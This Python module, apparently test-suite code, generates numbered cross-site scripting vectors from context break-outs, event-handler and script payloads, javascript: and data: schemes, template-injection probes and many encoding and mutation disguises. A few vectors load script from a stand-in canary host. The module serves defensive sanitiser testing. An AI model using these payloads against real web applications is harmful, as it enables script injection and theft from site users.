"""Words that try to run a script, composed: what they break out of, what they begin there, and how they hide it.

One that works calls ``ran(N)`` with its number, or asks the host ``CANARY`` for something. All of them are our own;
the families follow OWASP's Cross Site Scripting Prevention Cheat Sheet.
"""

from __future__ import annotations

import re
from base64 import b64encode
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from html import escape
from itertools import product
from urllib.parse import quote

CANARY = "canary.test"
_CALL = "CALL"  # in a pattern: where the vector's own call goes

_OUT_OF = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "-->",
    "]]>",
    "</bdi></h3>",
    "</option></select>",
    "</noscript></iframe>",
    "</q></blockquote>",
)
_BEGUN = (
    "<img src=x onerror=CALL>",
    "<svg onload=CALL>",
    "<script>CALL</script>",
    "<details open ontoggle=CALL>x</details>",
    "<input autofocus onfocus=CALL>",
    "<video><source onerror=CALL></video>",
    "<audio src=x onerror=CALL></audio>",
    "<iframe onload=CALL></iframe>",
    "<style onload=CALL></style>",
    "<body onload=CALL>",
    "<object data=x: onerror=CALL></object>",
    "<link rel=stylesheet href=x onerror=CALL>",
    "<iframe srcdoc='<script>parent.CALL</script>'></iframe>",
    f"<script src=//{CANARY}/x.js></script>",
)
_IN_ATTRIBUTES = (
    "onfocus=CALL autofocus tabindex=1",
    "onerror=CALL src=x:",
    "onload=CALL",
    "onmouseover=CALL style=position:fixed;inset:0",
    "onanimationstart=CALL style=animation-name:x",
    "formaction=javascript:CALL",
)
_SCHEMES = (
    "javascript:CALL",
    "JaVaScRiPt:CALL",
    " javascript:CALL",
    "\tjavascript:CALL",
    "java\tscript:CALL",
    "java\nscript:CALL",
    "javascript&colon;CALL",
    "&#106;avascript:CALL",
    "&#x6A;avascript&#58;CALL",
    "java&Tab;script:CALL",
    "\u200bjavascript:CALL",
    "javascript://example.org/%0aCALL",
    "javascript:%72an(0)",
    "vbscript:CALL",
    "feed:javascript:CALL",
    "view-source:javascript:CALL",
    "data:text/html,<script>parent.CALL</script>",
    f"data:text/html;base64,{b64encode(b'<script>parent.ran(0)</script>').decode()}",
    'https://hollin.test/"><img src=x onerror=CALL>',
    "https://hollin.test/'onmouseover='CALL",
)
_CARRIERS = (
    "{}",
    '<a href="{}">words</a>',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
)
_TEMPLATES = (
    "{{ self.__init__.__globals__ }}{% raw %}<script>CALL</script>",
    "{% include 'desk/desk.mjs.j2' %}<script>CALL</script>",
    "{{ '<script>CALL</script>' | safe }}",
    "${CALL}`${CALL}`",
    "<mj-raw><script>CALL</script></mj-raw>",
    "</mj-text></mj-column><mj-raw><svg onload=CALL></mj-raw>",
    "<mj-style>@import '//canary.test/x.css';</mj-style><svg onload=CALL>",
    "<!-- htmlmin:ignore --><img src=x onerror=CALL>",
    "<![endif]--><img src=x onerror=CALL><!--[if mso]>",
    "\\u003cimg src=x onerror=CALL\\u003e</script><svg onload=CALL>",
)


@dataclass(frozen=True, slots=True)
class Vector:
    """One attempt; ``label`` is an ordinary word that stands before it, by which it is seen that it came."""

    number: int
    text: str

    @property
    def label(self) -> str:
        return f"w{self.number:03}w"

    @property
    def words(self) -> str:
        return f"{self.label} {self.text}"


def vectors() -> tuple[Vector, ...]:
    """All of them, numbered from 1."""
    return tuple(
        Vector(number, text.replace(_CALL, f"ran({number})")) for number, text in enumerate(_texts(), 1)
    )


def _texts() -> Iterator[str]:
    yield from map("".join, product(_OUT_OF, _BEGUN))
    yield from (disguise(begun) for disguise, begun in product(_DISGUISES, _BEGUN[:7]))
    yield from (f"{mark} {handler} x={mark}" for mark, handler in product("\"'` ", _IN_ATTRIBUTES))
    yield from (carrier.format(scheme) for carrier, scheme in product(_CARRIERS, _SCHEMES))
    yield from _TEMPLATES


def _in_any_case(text: str) -> str:
    turned = "".join(letter.upper() if place % 2 else letter for place, letter in enumerate(text))
    return re.sub(_CALL, _CALL, turned, flags=re.IGNORECASE)


_DISGUISES: tuple[Callable[[str], str], ...] = (
    _in_any_case,
    escape,  # as a feed's text that somebody unescapes once too often
    lambda text: escape(escape(text)),
    lambda text: re.sub(r"\W", lambda mark: f"&#{ord(mark[0])};", text),
    lambda text: text.replace("<", "&#x3c").replace(">", "&#x3e"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\n"),
    lambda text: text.replace("=", "\t=\n"),
    lambda text: text.rstrip(">"),
    lambda text: text.replace("<", "<<", 1),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: quote(text, safe="()"),
    lambda text: f"<s<script>cript></s</script>cript>{text}",
    lambda text: f"<math><mtext><table><mglyph><style><!--</style>{text}",
    lambda text: f"<noscript><p title='</noscript>{text}'>",
)
